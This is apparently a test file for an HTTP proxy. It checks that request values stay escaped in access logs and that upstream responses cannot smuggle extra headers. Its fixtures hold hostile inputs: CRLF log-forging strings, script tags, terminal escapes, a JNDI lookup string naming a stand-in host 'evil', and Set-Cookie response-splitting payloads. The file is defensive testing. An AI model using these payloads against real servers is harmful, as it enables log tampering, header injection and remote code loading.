/** Injection: what a client or an upstream writes stays a value, in headers, in the access log and in the log of the tree. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { linesOf, startOnEveryProtocol } from './support/every-protocol.ts'
import { HttpConnection } from './support/http-connection.ts'
import type { OddRequest } from './support/odd-requests.ts'
import { startProxy, startRawUpstream } from './support/proxy-stage.ts'

const clearing = '\x1b[2J'
/** Read as UTF-8: a character that turns the direction of reading, and one that ends a line for JavaScript. */
const turning = '\xe2\x80\xae\xe2\x80\xa8'

/** Values that act on a terminal, end a line or a column for one reader or another, or forge a line of a log. */
const nasty: readonly OddRequest[] = [
  { target: '/%0d%0a127.0.0.1%20-%20-%20forged' },
  { target: '/?a%0d%0a127.0.0.1%20-%20-%20forged"<script>' },
  { target: "/'%22%3Cscript%3E" },
  { headers: [['User-Agent', `a" 200 5 "-" "forged\\`]] },
  { headers: [['User-Agent', `${turning}\t\x9b31m\xff`]] },
  { headers: [['User-Agent', '${jndi:ldap://evil/a} %(h)s %{x}o']] },
  { headers: [['Referer', `http://a/","status":200,"x":"`]] },
  { headers: [['Referer', `\\u0000\\n\\x0a${turning}`]] },
  { headers: [['Authorization', `Basic ${Buffer.from('a b"\r\nforged - - :c').toString('base64')}`]] },
  { headers: [['X-Forwarded-For', '1.2.3.4 forged\t"x"']] },
  { headers: [['Forwarded', 'for="forged - - [x]";proto=https']] },
  { headers: [['X-Request-Id', 'forged " x']] },
  { headers: [['User-Agent', `a\r\nforged: ${clearing}`]] },
  { headers: [['User-Agent', `a${clearing}`]] },
  { headers: [['User-Agent', 'a\0b']] },
  { host: 'forged"x' },
  { host: `a${turning}` },
  { method: 'FORGED"' },
  { method: 'forged' },
]

/** What escapes leave: visible ASCII. */
const line = /^[\x20-\x7e]+$/

for (const format of ['json', 'combined']) {
  test(`each request is one line of the access log, as ${format}, over every protocol`, async t => {
    const file = 'access.log'
    const { tree, protocols } = await startOnEveryProtocol(t, {
      edge: { trust: ['loopback'], requestId: true },
      app: { accessLog: { format, file } },
    })
    for (const protocol of protocols) {
      const before = (await linesOf(tree, file, protocol)).length
      let answered = 0
      for (const request of nasty) {
        const { status, headers } = await protocol.ask(request)
        if (status !== 'reset') answered++
        assert.equal(headers.get('forged'), undefined)
        assert.match(headers.get('x-request-id') ?? 'none', /^[\w.-]+$/, JSON.stringify(request))
      }
      const lines = (await linesOf(tree, file, protocol)).slice(before + 1)
      assert.equal(lines.length, answered, `${protocol.name}: ${lines.join('\n')}`)
      for (const each of lines) {
        assert.match(each, line)
        if (format === 'json') assert.equal(typeof JSON.parse(each).status, 'number', each)
        // Address, dash, name, time, request, status, bytes, referer, agent: each column where it is to be.
        else
          assert.match(
            each,
            /^[\da-f.:]+ - \S+ \[[^\]]+\] "(?:[^"\\]|\\.)*" \d{3} (?:\d+|-) "(?:[^"\\]|\\.)*" "(?:[^"\\]|\\.)*"$/,
          )
      }
    }
    for (const text of tree.lines) assert.doesNotMatch(text, /[\0-\x08\x0b-\x1f\x7f-\x9f]/)
  })
}

/** Heads of answers with which an upstream could add lines to the one that the client gets. */
const answers = [
  'X: a\r\n\tSet-Cookie: forged=1',
  'X: a\rSet-Cookie: forged=1',
  'X: a\nSet-Cookie: forged=1',
  'X: a\0Set-Cookie: forged=1',
  'Set-Cookie : forged=1',
  'X-Accel-Redirect: /%0d%0aSet-Cookie: forged=1',
  'Connection: Set-Cookie\r\nSet-Cookie: forged=1',
]

test('what an upstream answers with adds no line to the answer', async t => {
  let index = 0
  const upstream = await startRawUpstream(t, socket => {
    socket.on('data', () => {
      socket.end(`HTTP/1.1 200 OK\r\n${answers[index]}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok`)
    })
  })
  const { url } = await startProxy(t, { '/': { to: [upstream.url] } })
  for (; index < answers.length; index++) {
    const client = await HttpConnection.open(url)
    client.send('GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n')
    const { status, headers } = await client.receive().finally(() => client.close())
    assert.ok([200, 404, 502].includes(status), `${answers[index]}: ${status}`)
    // A line that is a whole one is the upstream's to write; what was hidden in another is not.
    if (!/\r\nSet-Cookie/.test(answers[index] ?? '')) assert.equal(headers.get('set-cookie'), undefined, answers[index])
  }
})
